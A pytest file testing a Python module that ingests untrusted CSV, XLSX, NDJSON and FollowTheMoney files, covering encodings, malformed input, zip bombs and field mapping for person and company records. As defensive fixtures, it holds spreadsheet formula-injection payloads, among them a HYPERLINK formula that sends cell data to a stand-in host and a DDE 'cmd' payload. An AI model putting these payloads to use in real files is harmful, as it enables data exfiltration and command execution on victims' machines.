"""Reading outside files for ingestion: hostile CSV, XLSX, NDJSON and FollowTheMoney input."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import json
import time
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from liaison.core.errors import ValidationFailed
from liaison.entities import formats
from liaison.entities.formats import (
    FTM_LINKS,
    FTM_SCHEMATA,
    MAX_CELL,
    Table,
    TableRow,
    apply_mapping,
    ftm_id,
    ftm_links,
    ftm_to_raw,
    read_ftm,
    read_ndjson,
    read_table,
    safe_cell,
    suggest_mapping,
    validate_mapping,
)
from liaison.entities.schema import SCHEMA

# --- helpers ------------------------------------------------------------------------------------


def rows_of(table: Table) -> list[TableRow]:
    return list(table.rows)


def cells_of(table: Table) -> list[dict[str, str]]:
    rows = rows_of(table)
    assert all(r.error is None for r in rows), [r.error for r in rows]
    return [r.cells for r in rows]


def xlsx(build: Callable[[Any], None], patch: Callable[[str], str] | None = None) -> bytes:
    """A workbook built with openpyxl; ``patch`` edits the first sheet's XML afterwards (to add
    what openpyxl does not write, such as a formula's saved result)."""
    book = openpyxl.Workbook()
    build(book.active)
    buffer = io.BytesIO()
    book.save(buffer)
    if patch is None:
        return buffer.getvalue()
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = patch(data.decode()).encode()
            target.writestr(item.filename, data)
    return out.getvalue()


# --- CSV: encodings and what is not a table -----------------------------------------------------


def test_utf8_with_bom_reads_clean_headers() -> None:
    table = read_table("\ufeffName,Surname\nJosé,Müller\n".encode(), "people.csv")
    assert table.headers == ["Name", "Surname"]
    assert table.warnings == []
    assert table.format == "csv"
    assert cells_of(table) == [{"Name": "José", "Surname": "Müller"}]


def test_cp1252_is_read_with_a_warning() -> None:
    table = read_table("Name,City\nJosé,Zürich – Nord\n".encode("cp1252"), "p.csv")
    assert cells_of(table) == [{"Name": "José", "City": "Zürich – Nord"}]
    assert any("Windows-1252" in w for w in table.warnings)


def test_a_single_cp1252_byte_mid_file_reads_the_file_as_cp1252() -> None:
    data = b"name,city\n" + b"anna,berlin\n" * 50 + b"jos\xe9,paris\n" + b"bob,rome\n"
    table = read_table(data, "p.csv")
    rows = cells_of(table)
    assert rows[50] == {"name": "josé", "city": "paris"}
    assert len(rows) == 52
    assert table.warnings


def test_invalid_utf8_mid_file_keeps_the_utf8_rest_and_names_the_line() -> None:
    data = "name,city\nJosé,Kraków\n".encode() + b"bad\xff\xfe,x\n" + "Zoë,Łódź\n".encode()
    table = read_table(data, "p.csv")
    rows = cells_of(table)
    assert rows[0] == {"name": "José", "city": "Kraków"}
    assert rows[1]["name"] == "bad\ufffd\ufffd"
    assert rows[2] == {"name": "Zoë", "city": "Łódź"}
    assert len(table.warnings) == 1
    assert "line(s) 3" in table.warnings[0]


def test_utf16_with_a_byte_order_mark_is_read() -> None:
    data = "Name\tCity\nJosé\tKraków\n".encode("utf-16")  # Excel's "Unicode text"
    table = read_table(data, "export.txt")
    assert table.delimiter == "\t"
    assert cells_of(table) == [{"Name": "José", "City": "Kraków"}]
    assert any("UTF-16" in w for w in table.warnings)


def test_utf16_without_a_byte_order_mark_is_refused_with_a_reason() -> None:
    data = "Name,City\nJosé,Kraków\n".encode("utf-16-le")
    with pytest.raises(ValidationFailed, match="UTF-16"):
        read_table(data, "export.csv")


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"name,city\nann\x00,rome\n", "NUL"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "PDF"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "image/png"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "97-2003"),
        (b"<?xml version='1.0'?><Workbook/>", "XML"),
        (bytes(range(1, 32)) * 40, "binary"),
        (b"", "empty"),
        (b"  \r\n\n\t ", "empty"),
        (b",,,\n , \n\n", "no column names"),
    ],
)
def test_what_is_not_a_table_is_refused_readably(data: bytes, reason: str) -> None:
    with pytest.raises(ValidationFailed, match=reason):
        read_table(data, "upload.csv")


def test_text_named_like_a_workbook_is_read_as_csv_with_a_warning() -> None:
    table = read_table(b"a,b\n1,2\n", "sheet.xlsx")
    assert cells_of(table) == [{"a": "1", "b": "2"}]
    assert any("named like a workbook" in w for w in table.warnings)


# --- CSV: structure ----------------------------------------------------------------------------


def test_formula_cells_are_kept_verbatim_as_data() -> None:
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\t=1",
    ]
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["id", "note"])
    writer.writerows([str(i), value] for i, value in enumerate(hostile))
    table = read_table(buffer.getvalue().encode(), "notes.csv")
    assert [row["note"] for row in cells_of(table)] == hostile


def test_safe_cell_defuses_formulas_on_export_only() -> None:
    assert safe_cell('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("+31 6 1234") == "'+31 6 1234"
    assert safe_cell("-5") == "'-5"
    assert safe_cell("\t=1") == "'\t=1"
    assert safe_cell("\r=1") == "'\r=1"
    assert safe_cell("Müller") == "Müller"
    assert safe_cell("") == ""
    # An exported value read back in is the defused text, still only data.
    exported = f"a\n{safe_cell('=1+1')}\n".encode()
    assert cells_of(read_table(exported, "x.csv")) == [{"a": "'=1+1"}]


def test_a_huge_field_is_a_row_error_and_the_other_rows_are_fine() -> None:
    data = f"id,note\n1,short\n2,{'x' * (MAX_CELL + 1)}\n3,also short\n".encode()
    rows = rows_of(read_table(data, "x.csv"))
    assert [(r.line, r.error is None) for r in rows] == [(2, True), (3, False), (4, True)]
    assert rows[1].cells == {}
    assert "10,001 characters" in (rows[1].error or "")
    assert rows[2].cells == {"id": "3", "note": "also short"}


def test_a_field_of_exactly_max_cell_characters_is_fine() -> None:
    data = f"id,note\n1,{'x' * MAX_CELL}\n".encode()
    assert len(cells_of(read_table(data, "x.csv"))[0]["note"]) == MAX_CELL


def test_ragged_rows() -> None:
    data = b"a,b,c\n1,2,3\n1,2\n1,2,3,4\n1,2,3,,\n\n"
    rows = rows_of(read_table(data, "x.csv"))
    assert rows[0].cells == {"a": "1", "b": "2", "c": "3"}
    assert rows[1].cells == {"a": "1", "b": "2", "c": ""}  # short rows are padded
    assert rows[2].error is not None
    assert "column 4" in rows[2].error
    assert rows[3].cells == {"a": "1", "b": "2", "c": "3"}  # empty trailing cells are no data
    assert [r.line for r in rows] == [2, 3, 4, 5]


def test_duplicate_headers_are_refused_by_name() -> None:
    with pytest.raises(ValidationFailed, match="'name'") as info:
        read_table(b"name,dob, name ,city,city\n", "x.csv")
    assert info.value.extra["duplicates"] == ["name", "city"]


def test_blank_headers_are_named_and_trailing_blank_ones_dropped() -> None:
    table = read_table(b" first ,,third,,\nA,B,C,,\n", "x.csv")
    assert table.headers == ["first", "column_2", "third"]
    assert cells_of(table) == [{"first": "A", "column_2": "B", "third": "C"}]


def test_header_only_file_has_headers_and_no_rows() -> None:
    table = read_table(b"name,dob\r\n", "x.csv")
    assert table.headers == ["name", "dob"]
    assert rows_of(table) == []


def test_line_numbers_are_the_physical_lines_where_records_start() -> None:
    data = b'\n\nname,note\n"Ann","two\nlines"\n\n"Bob","three\r\nline\nnote"\nCy,x\n'
    table = read_table(data, "x.csv")
    rows = rows_of(table)
    assert [r.line for r in rows] == [4, 7, 10]
    assert rows[1].cells["note"] == "three\r\nline\nnote"


def test_an_unclosed_quote_is_a_row_error_not_a_failure() -> None:
    rows = rows_of(read_table(b'a,b\n1,2\n"3,4\n5,6\n', "x.csv"))
    assert rows[0].cells == {"a": "1", "b": "2"}
    assert rows[1].line == 3
    assert rows[1].error is not None


def test_text_after_a_closing_quote_is_a_row_error_and_reading_goes_on() -> None:
    rows = rows_of(read_table(b'a,b\n"x"y,z\n3,4\n', "x.csv"))
    assert rows[0].error is not None
    assert rows[1] == TableRow(3, {"a": "3", "b": "4"})


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_the_delimiter_is_found(delimiter: str) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(["name", "amount", "note"])
    writer.writerow(["Ann", "1,5", "a; b | c"])
    writer.writerow(["Bob", "2,0", "x"])
    table = read_table(buffer.getvalue().encode(), "x.csv")
    assert table.delimiter == delimiter
    assert cells_of(table)[0] == {"name": "Ann", "amount": "1,5", "note": "a; b | c"}


def test_european_semicolon_file_with_decimal_commas() -> None:
    table = read_table(b"Name;Betrag\nAnn;1,50\nBob;2,75\n", "x.csv")
    assert table.delimiter == ";"
    assert cells_of(table)[1] == {"Name": "Bob", "Betrag": "2,75"}


def test_reading_stops_at_max_rows_with_a_warning(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(formats, "MAX_ROWS", 3)
    table = read_table(b"a\n" + b"".join(b"%d\n" % i for i in range(10)), "x.csv")
    assert [r.cells["a"] for r in table.rows] == ["0", "1", "2"]
    assert any("first 3 rows" in w and "line 5" in w for w in table.warnings)


def test_rows_stream_lazily() -> None:
    data = b"id,name\n" + b"".join(b"%d,person %d\n" % (i, i) for i in range(100_000))
    started = time.perf_counter()
    table = read_table(data, "big.csv")
    first = next(table.rows)
    assert first == TableRow(2, {"id": "0", "name": "person 0"})
    assert sum(1 for _ in table.rows) == 99_999
    assert time.perf_counter() - started < 20


# --- XLSX ---------------------------------------------------------------------------------------


def _people(ws: Any) -> None:
    ws.append([])
    ws.append(["Name", "Date of birth", "Number", "Double", None, "Flag", "Ratio"])
    ws.append(["Ann", dt.date(1980, 5, 17), 123.0, "=C3*2", None, True, 0.25])
    ws.append([])
    ws.append(["Bob", dt.datetime(1979, 1, 2, 14, 30), 42, None, None, False, 1.5])


def test_xlsx_header_is_the_first_non_empty_row_and_values_become_text() -> None:
    table = read_table(xlsx(_people), "people.xlsx")
    assert table.format == "xlsx"
    assert table.headers == [
        "Name",
        "Date of birth",
        "Number",
        "Double",
        "column_5",
        "Flag",
        "Ratio",
    ]
    rows = rows_of(table)
    assert [r.line for r in rows] == [3, 5]
    # The formula was never calculated (openpyxl saves no result): that row is an error.
    assert rows[0].cells == {}
    assert rows[0].error is not None
    assert "D3" in rows[0].error
    assert rows[1].cells == {
        "Name": "Bob",
        "Date of birth": "1979-01-02 14:30:00",
        "Number": "42",
        "Double": "",
        "column_5": "",
        "Flag": "FALSE",
        "Ratio": "1.5",
    }


def test_xlsx_formula_with_a_saved_result_reads_the_result() -> None:
    data = xlsx(_people, lambda xml: xml.replace("<f>C3*2</f><v></v>", "<f>C3*2</f><v>246</v>"))
    rows = rows_of(read_table(data, "people.xlsx"))
    assert rows[0].cells == {
        "Name": "Ann",
        "Date of birth": "1980-05-17",
        "Number": "123",
        "Double": "246",
        "column_5": "",
        "Flag": "TRUE",
        "Ratio": "0.25",
    }


def test_xlsx_error_cell_is_a_row_error() -> None:
    def build(ws: Any) -> None:
        ws.append(["a", "b"])
        ws.append(["x", "placeholder"])
        ws.append(["y", "z"])

    def patch(xml: str) -> str:
        start = xml.index('<c r="B2"')
        end = xml.index("</c>", start) + len("</c>")
        return xml[:start] + '<c r="B2" t="e"><v>#DIV/0!</v></c>' + xml[end:]

    rows = rows_of(read_table(xlsx(build, patch), "e.xlsx"))
    assert rows[0].error is not None
    assert "#DIV/0!" in rows[0].error
    assert rows[1].cells == {"a": "y", "b": "z"}


def test_xlsx_formula_injection_text_is_kept_as_text() -> None:
    def build(ws: Any) -> None:
        ws.append(["note"])
        ws.cell(row=2, column=1).value = '=HYPERLINK("http://evil.example","x")'
        ws.cell(row=2, column=1).data_type = "s"  # a text cell that merely looks like a formula

    assert cells_of(read_table(xlsx(build), "x.xlsx")) == [
        {"note": '=HYPERLINK("http://evil.example","x")'}
    ]


def test_xlsx_huge_cell_ragged_row_and_duplicate_headers() -> None:
    def build(ws: Any) -> None:
        ws.append(["a", "b"])
        ws.append(["x" * (MAX_CELL + 1), "1"])
        ws.append(["1", "2", "3"])
        ws.append(["ok", "fine"])

    rows = rows_of(read_table(xlsx(build), "x.xlsx"))
    assert [r.error is None for r in rows] == [False, False, True]
    assert rows[2] == TableRow(4, {"a": "ok", "b": "fine"})

    with pytest.raises(ValidationFailed, match="duplicate"):
        read_table(xlsx(lambda ws: ws.append(["a", "a"])), "x.xlsx")


def test_empty_xlsx_is_refused() -> None:
    with pytest.raises(ValidationFailed, match="no column names"):
        read_table(xlsx(lambda ws: None), "empty.xlsx")


def test_truncated_or_corrupt_zip_claiming_to_be_xlsx_is_refused() -> None:
    good = xlsx(_people)
    for data in (good[: len(good) // 2], b"PK\x03\x04" + b"\xff" * 200, b"PK\x05\x06" + b"\0" * 18):
        with pytest.raises(ValidationFailed, match=r"XLSX|workbook|ZIP"):
            rows_of(read_table(data, "broken.xlsx"))


def test_a_zip_that_is_not_a_workbook_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hello")
    with pytest.raises(ValidationFailed, match="not an Excel workbook"):
        read_table(buffer.getvalue(), "x.xlsx")


def test_a_zip_that_expands_enormously_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (20 * 1024 * 1024))
    with pytest.raises(ValidationFailed, match="expands"):
        read_table(buffer.getvalue(), "bomb.xlsx")


# --- NDJSON -------------------------------------------------------------------------------------


def test_ndjson_mixed_lines_keep_their_line_numbers() -> None:
    deep_ok = "[" * 19 + "]" * 19
    deep_bad = "[" * 21 + "]" * 21
    lines = [
        b'{"type": "Person", "id": "1"}',  # 1
        b"",  # 2 blank
        b"{not json}",  # 3
        b"[1, 2]",  # 4 not an object
        b'{"a": "\xff"}',  # 5 not UTF-8
        b'{"n": NaN}',  # 6
        b'{"n": -Infinity}',  # 7
        b'{"d": ' + deep_bad.encode() + b"}",  # 8
        b'{"d": ' + deep_ok.encode() + b"}",  # 9
        b'{"k": 1, "k": 2}',  # 10 repeated key
        b'  {"type": "Vehicle", "id": "2"}\r',  # 11
        b'{"a": 1} {"b": 2}',  # 12
        b"   ",  # 13 blank
        b'"just a string"',  # 14
        b'{"last": true}',  # 15 no final newline
    ]
    results = list(read_ndjson(b"\xef\xbb\xbf" + b"\n".join(lines)))
    assert [line for line, _, _ in results] == [1, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 14, 15]
    by_line = {line: (obj, err) for line, obj, err in results}
    assert by_line[1] == ({"type": "Person", "id": "1"}, None)
    assert by_line[11] == ({"type": "Vehicle", "id": "2"}, None)
    assert by_line[15] == ({"last": True}, None)
    assert by_line[9][1] is None
    for line in (3, 4, 5, 6, 7, 8, 10, 12, 14):
        obj, err = by_line[line]
        assert obj is None
        assert err
    assert "NaN" in (by_line[6][1] or "")
    assert "deeper than 20" in (by_line[8][1] or "")
    assert "UTF-8" in (by_line[5][1] or "")
    assert "array" in (by_line[4][1] or "")


def test_ndjson_pathological_nesting_and_long_lines_are_line_errors() -> None:
    data = b"[" * 200_000 + b"\n" + b'{"x": "' + b"a" * (formats.MAX_LINE + 1) + b'"}\n{"ok": 1}\n'
    results = list(read_ndjson(data))
    assert [(line, obj is None, bool(err)) for line, obj, err in results] == [
        (1, True, True),
        (2, True, True),
        (3, False, False),
    ]
    assert "longer" in (results[1][2] or "")


def test_ndjson_huge_integer_is_a_line_error() -> None:
    ((line, obj, err),) = read_ndjson(b'{"n": ' + b"9" * 5000 + b"}")
    assert line == 1
    assert obj is None
    assert err


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2000))
def test_read_ndjson_never_raises_on_arbitrary_bytes(data: bytes) -> None:
    for line, obj, err in read_ndjson(data):
        assert line >= 1
        assert (obj is None) != (err is None)


@settings(max_examples=200)
@given(st.text(alphabet='{}[]":,0123456789.eE+-tnrufalsNIy \n\\\x00é', max_size=300))
def test_read_ndjson_never_raises_on_json_like_text(text: str) -> None:
    for _, obj, err in read_ndjson(text.encode()):
        assert (obj is None) != (err is None)


def test_read_ftm_accepts_a_json_array_with_line_numbers() -> None:
    data = (
        b'[\n  {"id": "a", "schema": "Person", "properties": {}},\n'
        b'  {"id": "b",\n "schema": "Company"},\n  7\n]\n'
    )
    assert list(read_ftm(data)) == [
        (2, {"id": "a", "schema": "Person", "properties": {}}, None),
        (3, {"id": "b", "schema": "Company"}, None),
        (5, None, "a JSON number where an object was expected"),
    ]
    assert list(read_ftm(b"[]")) == []
    broken = list(read_ftm(b'[{"id": "a"}, {"id": NaN}]'))
    assert broken[0] == (1, {"id": "a"}, None)
    assert broken[1][1] is None
    assert "NaN" in (broken[1][2] or "")
    assert list(read_ftm(b'{"id": "x", "schema": "Person"}\n')) == [
        (1, {"id": "x", "schema": "Person"}, None)
    ]


@settings(max_examples=200)
@given(st.binary(max_size=500))
def test_read_ftm_never_raises(data: bytes) -> None:
    for _ in read_ftm(b"[" + data):
        pass


# --- property-based: tables ---------------------------------------------------------------------


def _cell_text(excluded: str) -> st.SearchStrategy[str]:
    return st.text(
        alphabet=st.one_of(
            st.characters(
                exclude_categories=("Cs", "Cc"),
                exclude_characters="\ufeff" + excluded,
            ),
            st.sampled_from(["\n", "\r", '"', " ", ",", ";", "|"]).filter(
                lambda c: c not in excluded
            ),
        ),
        max_size=12,
    )


@st.composite
def tables(draw: st.DrawFn) -> tuple[str, list[str], list[list[str]]]:
    delimiter = draw(st.sampled_from([",", ";", "|", "\t"]))
    excluded = "".join(d for d in ",;|" if d != delimiter)
    text = _cell_text(excluded)
    headers = draw(
        st.lists(
            text.map(str.strip).filter(bool),
            min_size=1,
            max_size=5,
            unique=True,
        )
    )
    rows = draw(st.lists(st.lists(text, min_size=len(headers), max_size=len(headers)), max_size=8))
    return delimiter, headers, rows


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(tables())
def test_csv_written_by_csv_writer_reads_back_exactly(
    table: tuple[str, list[str], list[list[str]]],
) -> None:
    delimiter, headers, rows = table
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(headers)
    starts = []
    for row in rows:
        starts.append(len(io.StringIO(buffer.getvalue(), newline="").readlines()) + 1)
        writer.writerow(row)
    result = read_table(buffer.getvalue().encode(), "t.csv")
    assert result.headers == headers
    expected = [
        (line, dict(zip(headers, row, strict=True)))
        for line, row in zip(starts, rows, strict=True)
        if any(cell.strip() for cell in row)
    ]
    got = rows_of(result)
    assert all(r.error is None for r in got)
    assert [(r.line, r.cells) for r in got] == expected
    assert result.warnings == []


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.one_of(
        st.binary(max_size=3000),
        st.binary(max_size=3000).map(lambda b: b"PK\x03\x04" + b),
        st.text(max_size=500).map(lambda t: t.encode("utf-8")),
        st.text(max_size=500).map(lambda t: t.encode("utf-16")),
    )
)
def test_read_table_raises_nothing_but_validation_failed(data: bytes) -> None:
    try:
        table = read_table(data, "upload")
        rows = list(table.rows)
    except ValidationFailed as exc:
        detail = exc.detail
        assert detail
    else:
        assert all(isinstance(row, TableRow) for row in rows)


def test_read_table_on_damaged_copies_of_a_real_workbook() -> None:
    good = xlsx(_people)
    for cut in range(0, len(good), max(1, len(good) // 40)):
        damaged = bytearray(good)
        damaged[cut : cut + 16] = b"\xa5" * 16
        with contextlib.suppress(ValidationFailed):
            list(read_table(bytes(damaged), "d.xlsx").rows)


# --- column mapping -----------------------------------------------------------------------------


def test_suggestions_for_common_person_headers() -> None:
    headers = [
        "First Name",
        "SURNAME",
        "Date of Birth",
        "passport no",
        "Record ID",
        "Handling code",
        "Sex",
        "Place of birth",
        "Soc_Sec_ID",
        "E-mail",
        "Address 1",
        "Address 2",
        "Street",
        "Suburb",
        "Post code",
        "Town",
        "Country",
        "Subject category",
        "Crime area",
        "Review date",
        "Minor",
        "Notes",
        "Given name(s)",
    ]
    assert suggest_mapping(headers, "Person") == {
        "First Name": "given_name",
        "SURNAME": "family_name",
        "Date of Birth": "dob",
        "passport no": "document_number",
        "Record ID": "id",
        "Handling code": "handling",
        "Sex": "gender",
        "Place of birth": "birth_place",
        "Soc_Sec_ID": "national_id",
        "E-mail": "email",
        "Address 1": "address",
        "Address 2": "address",
        "Street": "address",
        "Suburb": "address",
        "Post code": "postcode",
        "Town": "city",
        "Country": "country",
        "Subject category": "subject_category",
        "Crime area": "crime_area",
        "Review date": "review_date",
        "Minor": "minor",
        "Notes": "",
        "Given name(s)": "",  # given_name is already taken by "First Name"
    }


@pytest.mark.parametrize(
    ("entity_type", "headers", "expected"),
    [
        (
            "Organisation",
            ["Name", "Registration number", "Jurisdiction"],
            ["name", "registration_number", "country"],
        ),
        (
            "Vehicle",
            ["Number plate", "Registration country", "VIN", "Colour"],
            ["plate", "plate_country", "vin", "colour"],
        ),
        (
            "IdentityDocument",
            ["Document No.", "Issuing country", "Expiry"],
            ["number", "issuing_country", "expiry_date"],
        ),
        (
            "Location",
            ["Street", "House #", "Suburb", "lat"],
            ["street", "street_number", "address", "latitude"],
        ),
        ("BankAccount", ["IBAN", "BIC", "Bank name"], ["iban", "bic", "bank"]),
        ("Phone", ["Phone number", "ref"], ["number", "id"]),
        ("Email", ["Email address", "classification"], ["address", "classification"]),
    ],
)
def test_suggestions_for_other_types(
    entity_type: str, headers: list[str], expected: list[str]
) -> None:
    assert list(suggest_mapping(headers, entity_type).values()) == expected


def test_suggest_mapping_refuses_an_unknown_type() -> None:
    with pytest.raises(ValidationFailed, match="unknown entity type"):
        suggest_mapping(["a"], "Spaceship")


def test_every_suggestion_is_a_valid_target() -> None:
    words = ["name", "number", "country", "address", "type", "date", "id", "make", "serial"]
    for entity_type in SCHEMA.types:
        validate_mapping(suggest_mapping(words, entity_type), entity_type)


def test_validate_mapping_names_unknown_and_doubled_targets() -> None:
    with pytest.raises(ValidationFailed) as info:
        validate_mapping(
            {"a": "given_name", "b": "shoe_size", "c": "dob", "d": "dob", "e": "", "f": "id"},
            "Person",
        )
    errors = info.value.extra["errors"]
    assert set(errors) == {"b", "d"}
    assert "shoe_size" in errors["b"]
    validate_mapping({"a": "address", "b": "address", "c": "handling"}, "Person")


def test_apply_mapping_builds_the_raw_contribution() -> None:
    headers = ["Ref", "First", "Last", "Street", "House No", "City", "Handling", "Notes"]
    mapping = suggest_mapping(headers, "Person")
    assert mapping["House No"] == "address"
    cells = {
        "Ref": " P-17 ",
        "First": "Anna",
        "Last": "Kowalska",
        "Street": "Długa",
        "House No": "12",
        "City": "",
        "Handling": "H2",
        "Notes": "ignored",
    }
    defaults = {"handling": "H1", "subject_category": "suspect", "city": "Gdańsk", "minor": "no"}
    raw = apply_mapping(cells, mapping, "Person", defaults)
    assert raw == {
        "type": "Person",
        "id": "P-17",
        "handling": "H2",  # the row wins over the default
        "subject_category": "suspect",
        "minor": "no",
        "properties": {
            "given_name": "Anna",
            "family_name": "Kowalska",
            "address": "Długa, 12",
            "city": "Gdańsk",  # the row left it empty
        },
    }
    props, _ = SCHEMA.get("Person").validate(raw["properties"])
    assert props["address"] == "Długa, 12"


def test_apply_mapping_keeps_formula_text_and_omits_empty_cells() -> None:
    mapping = {"n": "full_name", "x": "birth_place", "e": "email"}
    raw = apply_mapping({"n": "=HYPERLINK(1)", "x": "  ", "e": ""}, mapping, "Person", {})
    assert raw == {"type": "Person", "properties": {"full_name": "=HYPERLINK(1)"}}


def test_apply_mapping_refuses_unknown_targets_and_defaults() -> None:
    with pytest.raises(ValidationFailed, match="shoe_size"):
        apply_mapping({"a": "1"}, {"a": "shoe_size"}, "Person", {})
    with pytest.raises(ValidationFailed, match="colour"):
        apply_mapping({}, {}, "Person", {"colour": "red"})
    with pytest.raises(ValidationFailed, match="'id'"):
        apply_mapping({}, {}, "Person", {"id": "same-for-all"})


def test_a_read_table_row_flows_through_the_mapping() -> None:
    data = b"Record ID;Surname;Given name;DOB;passport no\nR1;Nowak;Jan;1970-02-03;AB1234567\n"
    table = read_table(data, "x.csv")
    mapping = suggest_mapping(table.headers, "Person")
    validate_mapping(mapping, "Person")
    (row,) = rows_of(table)
    raw = apply_mapping(row.cells, mapping, "Person", {"subject_category": "witness"})
    assert raw["id"] == "R1"
    assert raw["properties"] == {
        "family_name": "Nowak",
        "given_name": "Jan",
        "dob": "1970-02-03",
        "document_number": "AB1234567",
    }


# --- FollowTheMoney -----------------------------------------------------------------------------

OPENSANCTIONS_PERSON: dict[str, Any] = {
    "id": "NK-5kqQNDGqLAhDVEbVxqTVBj",
    "caption": "Viktor Ivanovich PETROV",
    "schema": "Person",
    "properties": {
        "name": ["Viktor Ivanovich PETROV", "Виктор Иванович Петров"],
        "firstName": ["Viktor"],
        "fatherName": ["Ivanovich"],
        "lastName": ["Petrov"],
        "alias": ["Viktor Petrov"],
        "birthDate": ["1965-03-14"],
        "birthPlace": ["Leningrad"],
        "gender": ["male"],
        "nationality": ["ru"],
        "citizenship": ["ru", "cy"],
        "passportNumber": ["719876543"],
        "position": ["Deputy Minister of Industry"],
        "topics": ["sanction", "role.pep"],
        "sourceUrl": ["https://example.org/list"],
        "notes": ["Listed for supporting …"],
    },
    "referents": ["ofac-12345", "eu-fsf-eu-6789"],
    "datasets": ["eu_fsf", "us_ofac_sdn"],
    "first_seen": "2022-03-01T00:00:00",
    "last_seen": "2024-05-01T00:00:00",
    "last_change": "2023-11-02T12:00:00",
    "target": True,
}

OPENSANCTIONS_COMPANY: dict[str, Any] = {
    "id": "NK-cFL4BjmRbLrVXBg4U8ShAH",
    "schema": "Company",
    "properties": {
        "name": ["ACME Logistics Holdings Ltd"],
        "jurisdiction": ["cy"],
        "country": ["ru"],
        "registrationNumber": ["HE 123456"],
        "incorporationDate": ["2011-06-01"],
        "address": ["Arch. Makariou III 1, Nicosia 1065, Cyprus"],
        "topics": ["sanction"],
    },
    "datasets": ["eu_fsf"],
}


def test_opensanctions_person() -> None:
    notes: list[str] = []
    raw = ftm_to_raw(OPENSANCTIONS_PERSON, {"subject_category": "suspect", "handling": "H1"}, notes)
    assert raw == {
        "type": "Person",
        "id": "NK-5kqQNDGqLAhDVEbVxqTVBj",
        "subject_category": "suspect",
        "handling": "H1",
        "properties": {
            "full_name": "Viktor Ivanovich PETROV",
            "given_name": "Viktor",
            "middle_name": "Ivanovich",
            "family_name": "Petrov",
            "dob": "1965-03-14",
            "gender": "M",
            "nationality": "ru",
            "birth_place": "Leningrad",
            "document_number": "719876543",
            "profession": "Deputy Minister of Industry",
        },
    }
    assert any(n.startswith("name: 1 more") for n in notes)
    assert any(n.startswith("citizenship: 1 more") and "'cy'" in n for n in notes)
    assert any("alias" in n and "topics" in n and "sourceUrl" in n for n in notes)
    props, _ = SCHEMA.get("Person").validate(raw["properties"])
    assert props["nationality"] == "RU"
    assert ftm_links(OPENSANCTIONS_PERSON) == []


def test_opensanctions_company() -> None:
    raw = ftm_to_raw(OPENSANCTIONS_COMPANY, {"classification": "RESTRICTED"})
    assert raw == {
        "type": "Organisation",
        "id": "NK-cFL4BjmRbLrVXBg4U8ShAH",
        "classification": "RESTRICTED",
        "properties": {
            "name": "ACME Logistics Holdings Ltd",
            "country": "ru",  # country is listed before jurisdiction in the table
            "registration_number": "HE 123456",
            "address": "Arch. Makariou III 1, Nicosia 1065, Cyprus",
        },
    }
    SCHEMA.get("Organisation").validate(raw["properties"])


def test_passport_is_a_document_and_a_holds_link() -> None:
    passport = {
        "id": "pass-1",
        "schema": "Passport",
        "properties": {
            "holder": ["NK-5kqQNDGqLAhDVEbVxqTVBj"],
            "number": ["719876543"],
            "country": ["ru"],
            "type": ["diplomatic passport"],
            "startDate": ["2015-04-01"],
            "endDate": ["2025-04-01T00:00:00"],
        },
    }
    raw = ftm_to_raw(passport)
    assert raw == {
        "type": "IdentityDocument",
        "id": "pass-1",
        "properties": {
            "number": "719876543",
            "issuing_country": "ru",
            "issue_date": "2015-04-01",
            "expiry_date": "2025-04-01",
            "document_type": "passport",
        },
    }
    SCHEMA.get("IdentityDocument").validate(raw["properties"])
    assert ftm_links(passport) == [
        {
            "type": "holds",
            "source": "NK-5kqQNDGqLAhDVEbVxqTVBj",
            "target": "pass-1",
            "start_date": "2015-04-01",
            "end_date": "2025-04-01",
        }
    ]


def test_identification_type_words_become_document_types() -> None:
    def doc_type(text: str) -> str:
        obj = {"id": "i", "schema": "Identification", "properties": {"type": [text]}}
        return str(ftm_to_raw(obj)["properties"]["document_type"])

    assert doc_type("National ID card") == "id_card"
    assert doc_type("Residence permit") == "residence_permit"
    assert doc_type("Driver's license") == "driving_licence"
    assert doc_type("Voter card") == "other"


def test_family_relationship_is_a_link() -> None:
    family = {
        "id": "fam-1",
        "schema": "Family",
        "properties": {
            "person": ["NK-a"],
            "relative": [{"id": "NK-b", "schema": "Person"}],  # nested export
            "relationship": ["brother"],
            "startDate": ["1990"],
        },
    }
    notes: list[str] = []
    assert ftm_links(family, notes) == [
        {"type": "family", "source": "NK-a", "target": "NK-b", "start_date": None, "end_date": None}
    ]
    assert notes == ["startDate '1990' is not a full date and was not kept"]
    with pytest.raises(ValidationFailed, match="relationship"):
        ftm_to_raw(family)


def test_other_relationships_and_vehicle_owner() -> None:
